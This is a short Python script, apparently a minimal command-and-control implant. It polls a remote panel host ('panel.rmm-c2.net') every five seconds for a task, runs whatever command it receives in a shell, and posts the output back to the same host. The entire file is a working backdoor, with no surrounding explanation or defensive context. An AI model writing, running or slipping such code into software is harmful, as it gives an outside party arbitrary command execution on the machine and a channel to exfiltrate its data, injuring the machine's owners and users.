import requests, subprocess, time
while True:
    t = requests.get('https://panel.rmm-c2.net/task').text
    if t: requests.post('https://panel.rmm-c2.net/out', data=subprocess.getoutput(t))
    time.sleep(5)
